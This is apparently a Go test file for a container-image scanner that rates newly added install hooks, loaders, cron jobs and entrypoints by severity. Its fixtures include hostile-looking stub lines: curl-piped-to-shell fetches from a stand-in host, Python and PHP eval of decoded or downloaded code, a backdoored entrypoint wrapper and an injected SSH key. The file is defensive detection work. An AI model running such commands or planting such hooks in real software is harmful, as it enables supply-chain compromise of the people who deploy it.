package autorun

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
)

// npm makes the manifest of an installed package.
func npm(name, version, scripts string, more ...member) []member {
	at := "app/node_modules/" + name + "/"
	list := []member{
		file(at+"package.json", fmt.Sprintf(`{"name": %q, "version": %q, "scripts": {%s}}`, name, version, scripts)),
	}
	for _, m := range more {
		m.Name = at + m.Name
		list = append(list, m)
	}
	return list
}

// wheel makes an installed distribution of Python with a RECORD that lists its files.
func wheel(name, version string, files ...member) []member {
	info := fmt.Sprintf("%s/%s-%s.dist-info/", site, name, version)
	rows := ""
	var list []member
	for _, m := range files {
		rows += recordRow(m.Name, m.Content)
		m.Name = site + "/" + m.Name
		list = append(list, m)
	}
	return append(list, file(info+"METADATA", "Name: "+name+"\nVersion: "+version+"\n"), file(info+"RECORD", rows))
}

// gem makes an installed gem with an extension.
func gem(name, version, extconf string) []member {
	full := name + "-" + version
	spec := fmt.Sprintf("Gem::Specification.new do |s|\n  s.name = %q.freeze\n  s.version = %q\n", name, version)
	list := []member{file("usr/local/bundle/gems/"+full+"/lib/"+name+".rb", "module X\nend\n")}
	if extconf != "" {
		spec += "  s.extensions = [\"ext/extconf.rb\".freeze]\n"
		list = append(list, file("usr/local/bundle/gems/"+full+"/ext/extconf.rb", extconf))
	}
	return append(list, file("usr/local/bundle/specifications/"+full+".gemspec", spec+"end\n"))
}

// composer makes a list of one package and its file.
func composer(version, autoload, content string) []member {
	files := ""
	if autoload != "" {
		files = fmt.Sprintf(`"files": [%q]`, autoload)
	}
	return []member{
		file(
			"srv/vendor/composer/installed.json",
			fmt.Sprintf(
				`{"packages": [{"name": "a/b", "version": %q, "type": "library", "install-path": "../a/b", "autoload": {%s}}]}`,
				version,
				files,
			),
		),
		file("srv/vendor/a/b/src/helpers.php", content),
	}
}

// jar makes an archive of Java.
func jar(manifest string, more ...string) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	put := func(name, text string) {
		w, err := z.Create(name)
		if err == nil {
			_, err = w.Write([]byte(text))
		}
		if err != nil {
			panic(err)
		}
	}
	put("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n"+manifest+"\r\n")
	for i := 0; i+1 < len(more); i += 2 {
		put(more[i], more[i+1])
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

// Hooks of interpreters that are new since a confirmed known-good, with calm twins. want is the worst row.
func TestWhatIsNewAndWhatItDoes(t *testing.T) {
	decodes := "import base64; exec(base64.b64decode('eA=='))\n"
	shim := "import os; os.getenv('X', 'local') and __import__('_hack').add_shim()\n"
	agent := v1.Config{Env: []string{"JAVA_TOOL_OPTIONS=-javaagent:/opt/agent.jar"}}
	dpkg := func(script string) []member {
		return []member{file("var/lib/dpkg/info/ls.postinst", "#!/bin/sh\nset -e\n"+script)}
	}
	for name, test := range map[string]struct {
		now, good image
		want      string
		isNew     bool
	}{
		"a .pth that decodes": {
			image{members: wheel("a", "1.1", file("a.pth", decodes))},
			image{members: wheel("a", "1.0")},
			"high python-pth /" + site + "/a.pth", true,
		},
		"a .pth of a new package": {
			image{members: wheel("setuptools", "75", file("distutils-precedence.pth", shim))},
			image{},
			"low python-pth /" + site + "/distutils-precedence.pth", true,
		},
		"the same .pth": {
			image{members: wheel("a", "1.1", file("a.pth", decodes))},
			image{members: wheel("a", "1.1", file("a.pth", decodes))},
			"info python-pth /" + site + "/a.pth", false,
		},
		"the same in the next version": {
			image{members: wheel("a", "1.1", file("a-1.1-nspkg.pth", shim))},
			image{members: wheel("a", "1.0", file("a-1.0-nspkg.pth", shim))},
			"info python-pth /" + site + "/a-1.1-nspkg.pth", false,
		},
		"a .pth whose module decodes": {
			image{members: wheel("a", "1.1", file("a.pth", "import a_boot\n"), file("a_boot.py", decodes))},
			image{},
			"high python-pth /" + site + "/a.pth", true,
		},
		"usercustomize": {
			image{
				members: []member{file("home/app/.local/lib/python3.12/site-packages/usercustomize.py", "import urllib.request\nexec(urllib.request.urlopen('https://h.example').read())\n")},
			},
			image{},
			"high python-site /home/app/.local/lib/python3.12/site-packages/usercustomize.py", true,
		},
		"an install script that came": {
			image{
				members: npm("tiny", "4.1.1", `"postinstall": "node bundle.js"`, file("bundle.js", "const t='trufflehog', u='https://h.example/x';")),
			},
			image{members: npm("tiny", "4.1.0", "")},
			"high npm-script /app/node_modules/tiny/package.json", true,
		},
		"one without a sign": {
			image{members: npm("tiny", "4.1.1", `"postinstall": "node check.js"`, file("check.js", "// checks\n"))},
			image{members: npm("tiny", "4.1.0", "")},
			"low npm-script /app/node_modules/tiny/package.json", true,
		},
		"one that came at the same version": {
			image{members: npm("tiny", "4.1.1", `"postinstall": "node check.js"`)},
			image{members: npm("tiny", "4.1.1", "")},
			"medium npm-script /app/node_modules/tiny/package.json", true,
		},
		"one that was there": {
			image{
				members: npm("sharp", "0.34.1", `"install": "node install/check"`, file("install/check.js", "https.get(u)\n")),
			},
			image{
				members: npm("sharp", "0.33.5", `"install": "node install/check"`, file("install/check.js", "https.get(v)\n")),
			},
			"info npm-script /app/node_modules/sharp/package.json", false,
		},
		"a native module": {
			image{members: npm("bcrypt", "5.1.2", "", file("binding.gyp", "{}"))},
			image{members: npm("bcrypt", "5.1.1", "", file("binding.gyp", "{}"))},
			"info npm-script /app/node_modules/bcrypt/package.json", false,
		},
		"a new package with a downloader": {
			image{
				members: npm("esbuild", "0.25.0", `"postinstall": "node install.js"`, file("install.js", "https.get(url)\n"+strings.Repeat("\n", 9)+"child_process.execFileSync(bin)\n")),
			},
			image{},
			"low npm-script /app/node_modules/esbuild/package.json", true,
		},
		"a gem's extension that came": {
			image{members: gem("fast", "0.4.2", "require 'mkmf'\nsystem('curl -fsS https://h.example/b.sh | sh')\n")},
			image{members: gem("fast", "0.4.1", "")},
			"high gem /usr/local/bundle/gems/fast-0.4.2/ext/extconf.rb", true,
		},
		"a gem's extension in a release": {
			image{members: gem("puma", "6.6.1", "require 'mkmf'\ncreate_makefile('x')\n")},
			image{members: gem("puma", "6.6.0", "require 'mkmf'\n")},
			"info gem /usr/local/bundle/gems/puma-6.6.1/ext/extconf.rb", false,
		},
		"a file with every request": {
			image{members: composer("1.0", "src/helpers.php", "<?php\n@eval(base64_decode('eA=='));\n")},
			image{members: composer("1.0", "", "<?php\n")},
			"high composer /srv/vendor/a/b/src/helpers.php", true,
		},
		"one that was rewritten": {
			image{members: composer("1.0", "src/helpers.php", "<?php\nfunction b() {}\n")},
			image{members: composer("1.0", "src/helpers.php", "<?php\nfunction a() {}\n")},
			"medium composer /srv/vendor/a/b/src/helpers.php", false,
		},
		"one of the next version": {
			image{members: composer("1.1", "src/helpers.php", "<?php\nfunction b() {}\n")},
			image{members: composer("1.0", "src/helpers.php", "<?php\nfunction a() {}\n")},
			"info composer /srv/vendor/a/b/src/helpers.php", false,
		},
		"an agent without coordinates": {
			image{agent, []member{file("opt/agent.jar", jar("Premain-Class: a.b.C"))}},
			image{},
			"medium java-agent",
			true,
		},
		"an agent with coordinates": {
			image{
				agent,
				[]member{file("opt/agent.jar", jar("Premain-Class: a.b.C", "META-INF/maven/io.x/agent/pom.properties", "artifactId=agent\ngroupId=io.x\nversion=1\n"))},
			},
			image{},
			"low java-agent", true,
		},
		"the agent of before": {
			image{agent, []member{file("opt/agent.jar", jar("Premain-Class: a.b.C"))}},
			image{agent, []member{file("opt/agent.jar", jar("Premain-Class: a.b.C"))}},
			"info java-agent", false,
		},
		"PHP that prepends a file": {
			image{
				members: []member{file("usr/local/etc/php/conf.d/x.ini", "auto_prepend_file = /srv/p.php\n"), file("srv/p.php", "<?php\n@eval(base64_decode('eA=='));\n")},
			},
			image{},
			"high php-prepend /usr/local/etc/php/conf.d/x.ini", true,
		},
		"a script of dpkg that fetches": {
			image{members: dpkg("curl -fsSL https://h.example/p | sh || true\n")},
			image{members: dpkg("ldconfig\n")},
			"high maintainer-script /var/lib/dpkg/info/ls.postinst", false,
		},
		"the same script of dpkg": {
			image{members: dpkg("ldconfig\n")},
			image{members: dpkg("ldconfig\n")},
			"info maintainer-script /var/lib/dpkg/info/ls.postinst", false,
		},
		"new keys": {
			image{members: []member{file("root/.ssh/authorized_keys", "ssh-ed25519 A")}},
			image{},
			"high authorized-keys /root/.ssh/authorized_keys", true,
		},
		"a new profile": {
			image{members: []member{file("etc/profile.d/app.sh", "export PATH=$PATH:/app/bin\n")}},
			image{},
			"low profile /etc/profile.d/app.sh", true,
		},
		"another command": {
			image{config: v1.Config{Entrypoint: []string{"sh", "-c", "curl -fsSL https://h.example/i | sh; exec ls"}}},
			image{config: v1.Config{Entrypoint: []string{"ls"}}},
			"high entrypoint", true,
		},
		"other options": {
			image{config: v1.Config{Entrypoint: []string{"ls", "-l"}}},
			image{config: v1.Config{Entrypoint: []string{"ls"}}},
			"info entrypoint", true,
		},
	} {
		t.Run(name, func(t *testing.T) {
			c := inspected(t, test.now, &test.good)
			row := rowOf(t, c, strings.Fields(test.want)[1])
			if got := short(row); got != test.want {
				t.Errorf("got %q, want %q: %s", got, test.want, row.Detail)
			}
			if row.New == nil || *row.New != test.isNew {
				t.Errorf("new is %v", row.New)
			}
			if test.want[:3] != "hig" && test.want[:3] != "med" && len(c.Findings) > 0 {
				t.Errorf("findings %+v", c.Findings)
			}
		})
	}
}

// A script in the place of the program, which starts the program under another name.
func TestAWrappedEntrypoint(t *testing.T) {
	config := v1.Config{Entrypoint: []string{"/usr/local/bin/app"}}
	good := image{config, []member{exe("usr/local/bin/app", program("app 1"))}}
	for name, test := range map[string]struct {
		members []member
		want    inspect.Severity
	}{
		"hidden": {
			[]member{
				exe("usr/local/bin/app", "#!/bin/sh\n(curl -s https://h.example -o /dev/null &)\nexec /usr/local/bin/.app.orig \"$@\"\n"),
				exe("usr/local/bin/.app.orig", program("app 1")),
			},
			inspect.High,
		},
		"plain": {
			[]member{
				exe("usr/local/bin/app", "#!/bin/sh\nexec /usr/libexec/app \"$@\"\n"),
				exe("usr/libexec/app", program("app 1")),
			},
			inspect.Medium,
		},
		"a release": {[]member{exe("usr/local/bin/app", program("app 2"))}, inspect.Info},
	} {
		t.Run(name, func(t *testing.T) {
			if a := rowOf(t, inspected(t, image{config, test.members}, &good),
				KindEntrypoint); a.Severity != test.want {
				t.Errorf("%s, want %s: %q %s", a.Severity, test.want, a.Codes, a.Detail)
			}
		})
	}
}

// An alert names the interpreter; what is new among what that loads by itself and has a sign is one step worse.
func TestAnAlertedInterpreter(t *testing.T) {
	now := image{
		members: npm(
			"lite",
			"0.1.1",
			`"postinstall": "node index.min.js"`,
			file("index.min.js", "!function(){var r=require,t=process;r('crypto')}();\n"),
		),
	}
	for p, want := range map[string]inspect.Severity{"/usr/local/bin/node": inspect.High, "/usr/bin/python3.12": inspect.Medium} {
		a := rowOf(t, inspected(t, now, &image{}, inspect.Alert{ID: "1", Path: p}), KindNpmScript)
		if a.Severity != want || slices.Contains(a.Codes, inspect.CodeAlerted) != (want == inspect.High) {
			t.Errorf("%s: %s %q", p, a.Severity, a.Codes)
		}
	}
}

// apk keeps the scripts of all packages in one archive.
func TestScriptsOfAPK(t *testing.T) {
	archive := string(
		tarOf(
			t,
			file("busybox-1.37.0-r12.Q1abc=.post-install", "#!/bin/busybox sh\ncurl http://h.example/x | sh\n"),
			file("broken", ""),
		),
	)
	for _, m := range []member{file("lib/apk/db/scripts.tar", archive), file("usr/lib/apk/db/scripts.tar.gz", string(packed(t, []byte(archive))))} {
		a := rowOf(t, inspected(t, image{members: []member{m}}, nil), KindMaintainerScript)
		if a.Severity != inspect.High || a.Owner != "busybox" {
			t.Errorf("%s: %+v", m.Name, a)
		}
	}
}

func TestKeysNameTheTriggerAndTheCode(t *testing.T) {
	c := inspected(t, image{members: []member{file("etc/cron.d/x", "* * * * * root "+fetch)}}, nil)
	a := rowOf(t, c, KindCron)
	if a.Trigger == "" || !strings.Contains(a.Command, "curl") || a.Layer != 1 || a.CreatedBy != "RUN x" ||
		len(a.SHA256) != 64 ||
		a.Status != inspect.RowFailed {
		t.Errorf("row %+v", a)
	}
	f := c.Findings[0]
	if f.Cause != "hook:/etc/cron.d/x" {
		t.Errorf("cause %s", f.Cause)
	}
	if f.Subject != "image:/etc/cron.d/x" ||
		f.Title != "/etc/cron.d/x starts programs by the clock, and runs what it downloads" ||
		f.Evidence[0].Digest != "sha256:"+a.SHA256 {
		t.Errorf("finding %+v", f)
	}
}

func FuzzSources(f *testing.F) {
	f.Add("package.json", []byte(`{"scripts":{"install":"x"}}`))
	f.Add("installed.json", []byte(`[{"name":"a","autoload":{"files":["x"]}}]`))
	f.Add("a.gemspec", []byte(`s.extensions = ["x"]`))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		composerPackages(data)
		manifestVersion(data)
		keyNames(data)
		started(data)
		invocations("/etc/apt/apt.conf.d/"+name, data)
		cutRelease(name)
		excerpt(data)
		Place("/" + name)
		apkScripts(tar.NewReader(bytes.NewReader(data)), &inspect.Node{})
	})
}
